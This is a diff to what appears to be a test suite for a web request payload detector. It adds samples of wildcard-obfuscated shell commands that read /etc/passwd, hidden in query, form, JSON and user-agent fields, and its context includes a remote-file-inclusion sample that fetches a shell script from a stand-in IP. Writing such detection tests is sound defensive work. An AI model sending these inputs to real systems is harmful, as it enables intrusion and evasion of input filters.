@@ -707,6 +707,22 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["body:json", JSON.stringify({ cmd: "curl -o a.sh https://example.com/a.sh" })],
 ];
 
+// A path with the shell's wildcards that names a program or an OS file (globpath.ts): rce or traversal.
+const GLOBBED_PATH: Case[] = [
+  ["query", "cmd=" + encodeURIComponent("/b?n/c?t /e?c/p?sswd")],
+  ["query", "f=" + encodeURIComponent("cat /e??/p??swd")],
+  ["body:json", JSON.stringify({ file: "/etc/pa*wd" })],
+  ["body:form", "x=" + encodeURIComponent("which /usr/bin/wh??mi")],
+  ["header:user-agent", "python-requests/2.31.0 FAIL||ca''t /ETC/PASS??"],
+];
+const NOT_GLOBBED_PATH: Case[] = [
+  ["query", "q=" + encodeURIComponent("ls /etc/*.conf")],
+  ["query", "q=" + encodeURIComponent("ls /usr/bin/python*")],
+  ["body:json", JSON.stringify({ glob: "/etc/* /bin/*" })],
+  ["query", "u=" + encodeURIComponent("https://x.example/bin/c?t=1")],
+  ["body:json", JSON.stringify({ routes: "/api/v?/users/* /usr/bin/c?" })],
+];
+
 // Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
 const REMOTE_INCLUDE: Case[] = [
   ["query", "page=http://198.51.100.7/shell.txt?"],
@@ -735,6 +751,7 @@ const NOT_NESTED_JSON: Case[] = [
 describeVerdicts("%s payload verdicts", () => core, [
   ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
+  ["globbed-path", "rce|traversal", GLOBBED_PATH, NOT_GLOBBED_PATH],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
